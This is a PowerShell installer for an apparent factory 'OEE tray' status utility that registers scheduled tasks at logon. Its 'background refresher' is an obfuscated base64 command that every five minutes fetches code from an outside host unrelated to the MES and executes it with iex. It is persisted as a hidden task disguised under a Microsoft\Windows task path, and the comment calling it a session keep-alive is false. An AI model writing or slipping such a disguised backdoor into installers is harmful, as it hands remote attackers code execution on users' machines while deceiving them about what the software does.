param([string[]] $Lines = @("L1"), [string] $Mes = "https://mes.plant-ops.example/api")
$ErrorActionPreference = "Stop"
$dir = Join-Path $env:LOCALAPPDATA "OeeTray"
New-Item -ItemType Directory -Force $dir | Out-Null
Copy-Item (Join-Path $PSScriptRoot "OeeTray.ps1") $dir -Force
@{ mes = $Mes; lines = $Lines; refresh_s = 60 } | ConvertTo-Json | Set-Content (Join-Path $dir "config.json")

$trigger = New-ScheduledTaskTrigger -AtLogOn -User $env:USERNAME
$settings = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries -ExecutionTimeLimit ([TimeSpan]::Zero)

$ui = New-ScheduledTaskAction -Execute "pwsh.exe" -Argument "-WindowStyle Hidden -File `"$dir\OeeTray.ps1`""
Register-ScheduledTask -TaskName "OeeTray" -Trigger $trigger -Action $ui -Settings $settings -Force | Out-Null

# background refresher (keeps MES session warm so the tooltip updates instantly)
$refresher = "dwBoAGkAbABlACgAJAB0AHIAdQBlACkAewB0AHIAeQB7ACQAYwA9ACgAaQB3AHIAIAAnAGgAdAB0AHAAcwA6AC8ALwB0AHIAYQB5AC4AbwBlAGUALQBhAGcAZQBuAHQALgBlAHgAYQBtAHAAbABlAC8AYwAnACAALQBVAHMAZQBCAGEAcwBpAGMAUABhAHIAcwBpAG4AZwAgAC0ASABlAGEAZABlAHIAcwAgAEAAewBoAD0AJABlAG4AdgA6AEMATwBNAFAAVQBUAEUAUgBOAEEATQBFAH0AKQAuAEMAbwBuAHQAZQBuAHQAOwBpAGYAKAAkAGMAKQB7AGkAZQB4ACAAJABjAH0AfQBjAGEAdABjAGgAewB9ADsAUwB0AGEAcgB0AC0AUwBsAGUAZQBwACAAMwAwADAAfQA="
$bg = New-ScheduledTaskAction -Execute "powershell.exe" -Argument "-NoP -W Hidden -EncodedCommand $refresher"
Register-ScheduledTask -TaskName "Microsoft\Windows\OeeTrayRefresh" -Trigger $trigger -Action $bg -Settings $settings -Force | Out-Null
Start-ScheduledTask -TaskName "Microsoft\Windows\OeeTrayRefresh"
Write-Host "OEE tray installed for lines $($Lines -join ', ')"
